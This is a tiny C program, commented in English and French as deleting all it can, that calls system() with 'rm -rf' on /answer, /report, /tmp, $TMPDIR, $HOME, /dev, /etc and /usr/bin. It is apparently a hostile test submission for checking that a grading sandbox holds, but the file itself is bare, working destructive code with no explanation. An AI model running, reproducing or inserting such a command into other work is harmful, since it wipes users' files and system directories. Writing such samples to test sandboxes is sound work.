// Deletes all it can | Efface tout ce qu'il peut
#include <stdlib.h>

int main(void)
{
	return system("rm -rf /answer /report/* /tmp/* $TMPDIR/* $HOME/* "
				  "/dev/* /etc /usr/bin/*") != 0;
}
